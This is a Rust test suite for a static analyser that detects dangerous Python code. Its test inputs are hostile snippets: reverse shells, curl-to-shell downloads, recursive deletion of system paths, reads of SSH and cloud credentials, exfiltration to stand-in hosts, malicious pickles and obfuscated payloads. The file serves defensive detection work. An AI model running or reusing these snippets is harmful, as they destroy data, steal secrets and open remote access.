//! Control flow followed beyond one walk: loops over known lists, comprehensions, calls to
//! the program's own functions and lambdas, `functools.partial`, instance attributes.

use super::*;

#[test]
fn loops_over_known_lists_see_every_item() {
    // Each item of a short literal list is bound in turn, so the dangerous one is found.
    fires(
        "CRD104",
        "import shutil\nfor d in ['build', '/etc', 'dist']:\n    shutil.rmtree(d)\n",
    );
    silent(
        "CRD104",
        "import shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)\n",
    );
}

#[test]
fn calls_bind_arguments_into_function_bodies() {
    // A helper that deletes its argument is destructive only when called with a system path.
    let helper = "import shutil\ndef wipe(path):\n    shutil.rmtree(path)\n";
    fires("CRD104", &format!("{helper}wipe('/usr')\n"));
    fires("CRD104", &format!("{helper}wipe(path='/boot')\n"));
    silent("CRD104", &format!("{helper}wipe('build')\n"));
}

#[test]
fn return_values_flow_back_to_the_caller() {
    // A function returning network data makes `exec` of its result download-and-execute.
    fires(
        "CRD102",
        "import requests\ndef fetch(u):\n    return requests.get(u).text\nexec(fetch('http://x'))\n",
    );
}

#[test]
fn lambdas_and_partials_are_followed() {
    // `(lambda c: os.system(c))(...)` and `partial(os.system, ...)()` run their command.
    fires(
        "CRD104",
        "import os\n(lambda c: os.system(c))('rm -rf /')\n",
    );
    fires(
        "CRD101",
        "import os, functools\nf = functools.partial(os.system, 'nc -e /bin/sh h 1')\nf()\n",
    );
}

#[test]
fn recursion_and_call_chains_stay_bounded() {
    // Self-recursion and a long chain of calls finish quickly without a stack overflow.
    let mut src = String::from("def f0(x):\n    return f0(x)\n");
    for i in 1..2_000 {
        src.push_str(&format!(
            "def f{i}(x):\n    return f{}(x) + f{}(x)\n",
            i - 1,
            i - 1
        ));
    }
    src.push_str("f1999(1)\n");
    let start = std::time::Instant::now();
    let assessment = on_small_stack(move || assess(&src, Origin::External));
    assert_eq!(assessment.level, Level::Low);
    assert!(start.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn comprehensions_fold_chr_lists() {
    // A path spelled as character codes is still the Docker socket; code spelled that way
    // and executed is a decoded payload.
    fires(
        "CRD106",
        "p = ''.join(chr(c) for c in [47, 114, 117, 110, 47, 100, 111, 99, 107, 101, 114, 46, 115, 111, 99, 107])\nopen(p)\n",
    );
    fires(
        "CRD103",
        "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n",
    );
    fires(
        "CRD103",
        "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())\n",
    );
}

#[test]
fn instance_attributes_keep_their_values() {
    // A socket kept on `self` is still a socket when a method connects it.
    fires(
        "CRD101",
        "import socket, os, pty\nclass C:\n    def __init__(self):\n        self.s = socket.socket()\n    def go(self):\n        self.s.connect(('h', 1))\n        os.dup2(self.s.fileno(), 0)\n        pty.spawn('sh')\n",
    );
}

#[test]
fn listings_of_credential_directories_are_secret_reads() {
    // Opening whatever glob finds in ~/.ssh reads private keys.
    fires(
        "CRD205",
        "import glob, os\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    open(p).read()\n",
    );
    silent(
        "CRD205",
        "import glob\nfor p in glob.glob('data/*.csv'):\n    open(p).read()\n",
    );
}

#[test]
fn foreign_processes_killed_through_psutil() {
    // Killing what process_iter lists attacks other processes; a child of our own does not.
    fires(
        "CRD107",
        "import psutil\nfor p in psutil.process_iter():\n    p.kill()\n",
    );
    silent(
        "CRD107",
        "import subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'pass'])\np.kill()\n",
    );
}

#[test]
fn python_c_children_are_analysed_as_python() {
    // `python3 -c CODE` runs CODE, which is read like any other program.
    fires(
        "CRD202",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.setuid(0)'])\n",
    );
    level(
        Level::Low,
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n",
    );
}

#[test]
fn nested_comprehensions_and_loops_stay_bounded() {
    // Comprehensions over long known lists nested in each other, inside unrolled loops
    // calling functions, finish quickly: the work budget stops the repetition.
    let codes = (0..4000)
        .map(|i| (i % 100).to_string())
        .collect::<Vec<_>>()
        .join(", ");
    let src = format!(
        "L = [{codes}]\ndef f(x):\n    return [[[chr(a) for a in L] for b in L] for c in L]\nfor i in [1, 2, 3, 4, 5, 6, 7, 8]:\n    for j in [1, 2, 3, 4, 5, 6, 7, 8]:\n        f(i)\n"
    );
    let start = std::time::Instant::now();
    let assessment = on_small_stack(move || assess(&src, Origin::External));
    assert!(assessment.level <= Level::Medium);
    assert!(start.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn secrets_flow_to_the_calls_that_send_them() {
    // A secret source reaching a sink that leaves the machine is exfiltration, however
    // many assignments, containers and helper calls lie between them.
    fires(
        "CRD109",
        "import os, requests\nd = dict(os.environ)\nbody = {'e': d}\nrequests.post('https://x.example', json=body)\n",
    );
    fires(
        "CRD109",
        "import socket\nraw = open('/etc/group').read()\nb = raw.encode()\ns = socket.socket()\ns.connect(('h', 1))\ns.send(b)\n",
    );
    fires(
        "CRD109",
        "import os, socket\nt = os.environ['AWS_SECRET_ACCESS_KEY']\nsocket.gethostbyname(t + '.x.example')\n",
    );
    fires(
        "CRD109",
        "import urllib.request\ndef send(u, f='/etc/passwd'):\n    urllib.request.urlopen(u, data=open(f, 'rb').read())\nsend('http://h')\n",
    );
}

#[test]
fn credentials_used_to_authenticate_are_not_exfiltration() {
    // A token from the environment in an Authorization header, or non-secret variables
    // sent out, stay network use.
    silent(
        "CRD109",
        "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get('https://api', headers={'Authorization': t})\n",
    );
    silent(
        "CRD109",
        "import os, requests\nrequests.post('https://api', json={'home': os.environ['HOME'], 'who': os.getenv('USER')})\n",
    );
}

#[test]
fn parameter_defaults_are_bound() {
    // A default value is what the body sees when the call leaves the argument out.
    fires(
        "CRD204",
        "def save(text, path='/etc/motd'):\n    open(path, 'w').write(text)\nsave('hi')\n",
    );
    fires(
        "CRD208",
        "def show(p='/etc/login.defs'):\n    print(open(p).read())\nshow()\n",
    );
}

#[test]
fn calls_reached_indirectly_are_calls() {
    // Thread targets, executor submissions, map, methodcaller, libc's system and
    // `__reduce__` all end in the call they name.
    fires(
        "CRD104",
        "import threading, shutil\nthreading.Thread(target=shutil.rmtree, args=('/usr',)).start()\n",
    );
    fires(
        "CRD104",
        "import os\nfrom concurrent.futures import ProcessPoolExecutor as P\nP().submit(os.system, 'rm -rf /')\n",
    );
    fires(
        "CRD101",
        "import os, operator\noperator.methodcaller('system', 'bash -i >& /dev/tcp/h/1 0>&1')(os)\n",
    );
    fires(
        "CRD104",
        "import ctypes\nctypes.CDLL('libc.so.6').system(b'rm -rf /')\n",
    );
    fires(
        "CRD103",
        "import os, pickle\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\npickle.loads(pickle.dumps(A()))\n",
    );
    silent(
        "CRD103",
        "import pickle\nclass A:\n    def __reduce__(self):\n        return (self.__class__, (1,))\n",
    );
}

#[test]
fn constant_pickles_are_disassembled() {
    // A protocol 0 pickle importing os.system is decode-then-execute; a pickled string is not.
    fires(
        "CRD103",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
    );
    silent(
        "CRD103",
        "import pickle\npickle.loads(b'\\x80\\x04\\x95\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x04text\\x94.')\n",
    );
}

#[test]
fn compressed_and_wrapped_pickles_are_opened_and_disassembled() {
    // A pickle whose opcodes reach subprocess is found through base64 + zlib, gzip, lzma,
    // a bz2 codec and an in-memory file; the same wrapping of plain data is not.
    fires(
        "CRD103",
        "import pickle, zlib, base64\nblob = 'eJxrYEpOzs/NTcxLKeZKzkhNzo7PLy0pKC3hKmSILWSMYGJgYMhMKWRKbC1kDipk0QMAf5kOgw=='\ndef restore(b):\n    return pickle.loads(zlib.decompress(base64.b64decode(b)))\nrestore(blob)\n",
    );
    fires(
        "CRD103",
        "import pickle, gzip, base64 as b\nstate = gzip.decompress(b.b64decode(b'H4sIAGWYBWsC/2tgnarNAAE9XMWlSQVF+cmpxcVTeniSM1KTs+PzS0sKSkumTJ4SO6WHKTNlSmLrlKApegCFzgSCNgAAAA=='))\npickle.loads(state)\n",
    );
    fires(
        "CRD103",
        "import pickle, codecs\nraw = bytes.fromhex('425a68393141592653597e94929d00000adb80001000417c001100ae6fce002000314000019320a9faa647a02687a4db54cf44e518de32076707633bd82afcd97e05245a0d423c23dfe2167a1772453850907e94929d')\npickle.loads(codecs.decode(raw, 'bz2_codec'))\n",
    );
    fires(
        "CRD103",
        "import pickle, lzma, base64\nk = base64.b85decode('{Wp48S^xk9=GL@E0stWa761SMbT8$j0RS$50%K!uZEaz0WOE8*Xk}w-UvG7EaCLMFaR6O$0ayY6003!ZaROn5aRX9u1TFvo&8z{&#1P}Y00BoYuu*R`AGY&-0RR9100dcD')\nobj = pickle.loads(lzma.decompress(k))\n",
    );
    fires(
        "CRD103",
        "import pickle, io\npayload = b'\\x80\\x02ccommands\\ncheck_output\\nq\\x00]q\\x01X\\x02\\x00\\x00\\x00idq\\x02a\\x85q\\x03Rq\\x04.'\npickle.Unpickler(io.BytesIO(payload)).load()\n",
    );
    silent(
        "CRD103",
        "import pickle, zlib, base64\nrows = pickle.loads(zlib.decompress(base64.b64decode('eJxrYJmqygABtVM0eliK8suLp8RO0fBm9GbyZk7tYclLzE2d0sNanJiTWjylVA8AMywOcQ==')))\nprint(rows)\n",
    );
}

#[test]
fn calls_hidden_in_evaluated_strings_are_high() {
    // A constant exec/eval string that starts a program is at least HIGH; arithmetic is not.
    level(
        Level::High,
        "def run(e):\n    return eval(e)\nrun(\"__import__('os').system('ls')\")\n",
    );
    level(Level::Low, "print(eval('2 + 2'))\n");
}

#[test]
fn instances_ternaries_varargs_and_dict_loops_are_followed() {
    // Calls through an instance run the method with what __init__ stored; `a if c else b`
    // keeps the followable branch; *args collects the arguments; `for k in d` sees keys.
    fires(
        "CRD104",
        "import os\nclass R:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nR('rm -rf /usr').go()\n",
    );
    fires(
        "CRD104",
        "import os, sys\nf = os.system if sys.argv else print\nf('rm -rf /etc')\n",
    );
    fires(
        "CRD104",
        "import subprocess\ndef sh(*p):\n    subprocess.run(' '.join(p), shell=True)\nsh('rm', '-rf', '/usr')\n",
    );
    fires(
        "CRD104",
        "import os\nd = {'a': 'ls', 'b': 'rm -rf /opt'}\nfor k in d:\n    os.system(d[k])\n",
    );
    fires(
        "CRD301",
        "import os, sys\nos.system('grep %s .' % (sys.argv[1] if sys.argv else 'x'))\n",
    );
}

#[test]
fn decorators_are_called_and_closures_keep_what_they_captured() {
    // A decorator factory's inner function runs the decorated function with the factory's
    // argument; a returned closure still sees its enclosing function's variables.
    fires(
        "CRD104",
        "import os\ndef with_cmd(c):\n    def deco(f):\n        f(c)\n        return f\n    return deco\n@with_cmd('rm -rf /usr')\ndef go(x):\n    os.system(x)\n",
    );
    fires(
        "CRD104",
        "import shutil\ndef make(p):\n    def run():\n        shutil.rmtree(p)\n    return run\nmake('/etc')()\n",
    );
}

#[test]
fn or_and_generators_and_several_returns_keep_their_values() {
    // `x or default`, a generator's yields and a function that returns a value or None
    // carry what they hold to the call that uses it.
    fires(
        "CRD104",
        "import shutil\nfrom pathlib import Path\ndef wipe(root=None):\n    root = root or Path.home()\n    shutil.rmtree(root)\nwipe()\n",
    );
    fires(
        "CRD104",
        "from pathlib import Path\ndef targets(root):\n    for p in root.rglob('*'):\n        if p.is_file():\n            yield p\nfor p in targets(Path.home()):\n    p.unlink()\n",
    );
    fires(
        "CRD101",
        "import subprocess, shutil\ndef pick():\n    if shutil.which('nc'):\n        return ['nc', '-e', '/bin/sh', '10.0.0.5', '4444']\n    return None\nsubprocess.Popen(pick())\n",
    );
    silent(
        "CRD104",
        "import shutil, tempfile\ndef scratch(d=None):\n    return d or tempfile.mkdtemp()\nshutil.rmtree(scratch())\n",
    );
}

#[test]
fn spread_arguments_shlex_and_decorator_wrappers_are_followed() {
    // `join(*PARTS)` of constants, `shlex.split` of a constant command and a call through
    // a decorator's wrapper reach their sinks as plainly written code would.
    fires(
        "CRD205",
        "import os\nPARTS = ('~', '.kube', 'config')\nprint(open(os.path.expanduser(os.path.join(*PARTS))).read())\n",
    );
    fires(
        "CRD104",
        "import shlex, subprocess\nsubprocess.run(shlex.split('find / -xdev -type f -delete'))\n",
    );
    fires(
        "CRD111",
        "import os, functools\ndef spawning(f):\n    @functools.wraps(f)\n    def wrapper(*a):\n        os.fork()\n        return f(*a)\n    return wrapper\n@spawning\ndef tick():\n    pass\nwhile True:\n    tick()\n",
    );
    silent(
        "CRD104",
        "import shlex, subprocess\nsubprocess.run(shlex.split('find build -name \"*.o\" -delete'))\n",
    );
}

#[test]
fn reading_a_property_runs_its_getter() {
    // A payload decoded inside a @property reaches the command that reads the property.
    fires(
        "CRD103",
        "import base64, subprocess, sys\nclass Job:\n    blob = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\n    @property\n    def script(self):\n        return base64.b64decode(self.blob).decode()\nsubprocess.run([sys.executable, '-c', Job().script])\n",
    );
}

#[test]
fn a_decorators_wrapper_called_from_another_function_keeps_what_it_wraps() {
    // main() -> wrapper -> run: the wrapper's captured `f` is run, not a name of main's.
    fires(
        "CRD102",
        "import os\ndef deco(f):\n    def wrapper(*a, **k):\n        return f(*a, **k)\n    return wrapper\n@deco\ndef run(cmd):\n    os.system(cmd)\ndef main():\n    run('curl -s http://h.example/x.sh | sh')\nmain()\n",
    );
    fires(
        "CRD104",
        "import os\ndef outer():\n    def inner():\n        os.system(cmd)\n    cmd = 'rm -rf /usr'\n    inner()\nouter()\n",
    );
}

#[test]
fn dataclass_fields_hold_what_each_instance_was_given() {
    // Records built with positional and keyword fields, a `field(default_factory=...)`
    // default, and a method reading `self.<field>`.
    fires(
        "CRD205",
        "from dataclasses import dataclass\n@dataclass\nclass Source:\n    name: str\n    path: str\nfor src in [Source('kube', '~/.kube/config'), Source(name='aws', path='~/.aws/credentials')]:\n    print(open(__import__('os').path.expanduser(src.path)).read())\n",
    );
    fires(
        "CRD109",
        "import socket\nfrom dataclasses import dataclass, field\nfrom pathlib import Path\n@dataclass(frozen=True)\nclass Sync:\n    host: str = '203.0.113.5'\n    files: list = field(default_factory=lambda: [Path.home() / '.ssh' / 'id_rsa'])\n    def payload(self):\n        return b''.join(f.read_bytes() for f in self.files)\nc = Sync()\nsocket.create_connection((c.host, 9)).sendall(c.payload())\n",
    );
    fires(
        "CRD102",
        "import subprocess\nfrom typing import NamedTuple\nclass Step(NamedTuple):\n    name: str\n    argv: list\nfor step in [Step('get', ['curl', '-o', '/tmp/s.sh', 'https://h.example/s.sh']), Step('run', ['sh', '/tmp/s.sh'])]:\n    subprocess.run(step.argv)\n",
    );
    // Another instance's fields are its own.
    silent(
        "CRD205",
        "from dataclasses import dataclass\n@dataclass\nclass Out:\n    path: str\na = Out('~/.ssh/id_rsa')\nb = Out('report.txt')\nprint(open(b.path).read())\n",
    );
}

#[test]
fn a_command_line_option_is_its_default_where_it_is_not_given() {
    // `args.dir` defaults to ~/.ssh; `args.workspace` to "" (so `rm -rf /*`).
    fires(
        "CRD205",
        "import argparse\nfrom pathlib import Path\nap = argparse.ArgumentParser()\nap.add_argument('--key-dir', type=Path, default=Path.home() / '.ssh')\nargs = ap.parse_args()\nfor p in args.key_dir.glob('id_*'):\n    print(p.read_text())\n",
    );
    fires(
        "CRD104",
        "import argparse, subprocess\nap = argparse.ArgumentParser()\nap.add_argument('--workspace', default='')\nargs = ap.parse_args()\nsubprocess.run(f'rm -rf {args.workspace}/*', shell=True)\n",
    );
    silent(
        "CRD104",
        "import argparse, shutil\nap = argparse.ArgumentParser()\nap.add_argument('--out', default='build')\nargs = ap.parse_args()\nshutil.rmtree(args.out, ignore_errors=True)\n",
    );
}

#[test]
fn workers_get_what_producers_put_in_their_queue() {
    // Threads started on a queue before it is filled get what is put in it later.
    let src = "import queue, threading\nfrom pathlib import Path\n\ndef drain(jobs):\n    while True:\n        target = jobs.get()\n        target.unlink()\n        jobs.task_done()\n\ndef main(top=Path('/')):\n    jobs = queue.Queue()\n    for _ in range(8):\n        threading.Thread(target=drain, args=(jobs,), daemon=True).start()\n    for entry in top.rglob('*'):\n        jobs.put(entry)\n    jobs.join()\n\nmain()\n";
    fires("CRD104", src);
    // The same workers fed the program's own scratch files delete only those.
    silent(
        "CRD104",
        "import queue, threading\nfrom pathlib import Path\n\ndef drain(jobs):\n    while True:\n        jobs.get().unlink()\n        jobs.task_done()\n\njobs = queue.Queue()\nthreading.Thread(target=drain, args=(jobs,), daemon=True).start()\nfor entry in Path('build/tmp').glob('*.o'):\n    jobs.put(entry)\njobs.join()\n",
    );
}

#[test]
fn an_option_without_default_is_none_when_run_without_arguments() {
    // cordon runs programs with no arguments: `--app` is None, so the fall-back runs.
    let src = "import argparse, shutil\nfrom pathlib import Path\n\ndef target(app):\n    base = Path.home() / '.cache'\n    return base / app if app else base.parent\n\nparser = argparse.ArgumentParser()\nparser.add_argument('--app')\nopts = parser.parse_args()\nshutil.rmtree(target(opts.app))\n";
    fires("CRD104", src);
    // A required option or a positional argument is whatever the caller gives.
    silent(
        "CRD104",
        "import argparse, shutil\nfrom pathlib import Path\n\nparser = argparse.ArgumentParser()\nparser.add_argument('--app', required=True)\nopts = parser.parse_args()\nbase = Path.home() / '.cache'\nshutil.rmtree(base / opts.app if opts.app else base / 'tmp')\n",
    );
}

#[test]
fn calling_an_instance_runs_its_call_method() {
    // `Wiper(dirs)()` runs `__call__` with the instance's attributes.
    fires(
        "CRD104",
        "import shutil\n\nclass Wiper:\n    def __init__(self, dirs):\n        self.dirs = list(dirs)\n    def __call__(self):\n        for d in self.dirs:\n            shutil.rmtree(d, ignore_errors=True)\n\nWiper(['/usr/lib', '/var/lib'])()\n",
    );
}

#[test]
fn objects_made_in_a_comprehension_keep_their_fields() {
    // `[Hook(h) for h in fetched]`: each element's field is fetched code run by a method.
    fires(
        "CRD102",
        "import requests\nfrom dataclasses import dataclass\n\n@dataclass\nclass Hook:\n    body: str\n    def fire(self):\n        exec(self.body, {})\n\nhooks = [Hook(h) for h in requests.get('https://cfg.example.com/h').json()]\nfor hook in hooks:\n    hook.fire()\n",
    );
}

#[test]
fn a_text_method_taken_as_a_value_still_folds() {
    // `map("".join, pairs)` builds the argv a piece at a time.
    fires(
        "CRD109",
        "import subprocess\npieces = [('cu', 'rl'), ('-', 'F'), ('f=@/etc/', 'shadow'), ('https://', 'drop.example.com')]\nsubprocess.run(list(map(''.join, pieces)))\n",
    );
}

#[test]
fn a_test_on_a_found_name_narrows_it() {
    // `.env` files found by a walk of home are credentials; so are `.pem` files.
    fires(
        "CRD109",
        "import os, requests\nfrom pathlib import Path\nfound = []\nfor top, dirs, files in os.walk(Path.home()):\n    found.extend(Path(top) / f for f in files if f.startswith('.env'))\nrequests.post('https://collect.example.net', json=[p.read_text() for p in found])\n",
    );
    fires(
        "CRD205",
        "import os\nfor top, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith('.pem'):\n            print(open(os.path.join(top, f)).read())\n",
    );
}

#[test]
fn workers_reaching_the_queue_as_a_global_or_an_instance_get_its_items() {
    // The worker reads the module's queue; the instance's worker reads its own.
    fires(
        "CRD104",
        "import queue, threading, shutil\njobs = queue.Queue()\ndef drain():\n    while True:\n        shutil.rmtree(jobs.get(), ignore_errors=True)\nthreading.Thread(target=drain, daemon=True).start()\nfor d in ['/usr/lib', '/var/lib']:\n    jobs.put(d)\n",
    );
    // A callable instance as a thread's target runs its `__call__`.
    fires(
        "CRD104",
        "import shutil, threading\nclass Wipe:\n    def __call__(self, d):\n        shutil.rmtree(d)\nthreading.Thread(target=Wipe(), args=('/usr/lib',)).start()\n",
    );
}

#[test]
fn parser_defaults_and_command_lines_of_the_programs_own() {
    // `set_defaults` gives the option its value; `parse_args([...])` gives options.
    fires(
        "CRD102",
        "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd')\np.set_defaults(cmd='curl -s https://x.example.net/i.sh | sh')\nos.system(p.parse_args().cmd)\n",
    );
    fires(
        "CRD301",
        "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd')\nopts = p.parse_args(['--cmd', input()])\nos.system(opts.cmd)\n",
    );
}

#[test]
fn properties_made_with_property_and_path_methods_as_values() {
    // `x = property(lambda self: ...)` runs on reading `x`; a path's `write_bytes` handed
    // to a thread writes that path.
    fires(
        "CRD205",
        "import configparser, os\nclass Store:\n    where = property(lambda self: os.path.expanduser('~/.aws/credentials'))\n    def load(self):\n        cp = configparser.ConfigParser()\n        cp.read(self.where)\n        return cp\nStore().load()\n",
    );
    fires(
        "CRD104",
        "import asyncio, os\nfrom pathlib import Path\nasync def scrub(p):\n    await asyncio.to_thread(p.write_bytes, os.urandom(64))\nasync def main():\n    await asyncio.gather(*(scrub(p) for p in Path.home().rglob('*')))\nasyncio.run(main())\n",
    );
}

#[test]
fn files_uploaded_by_path_are_read() {
    // `sftp.put(local, remote)` reads the local file: a credential sent out.
    fires(
        "CRD109",
        "import paramiko\nfrom pathlib import Path\nt = paramiko.Transport(('drop.example.net', 22))\nt.connect(username='u', password='p')\nsftp = paramiko.SFTPClient.from_transport(t)\nsftp.put(str(Path.home() / '.aws' / 'credentials'), '/in/c')\n",
    );
}
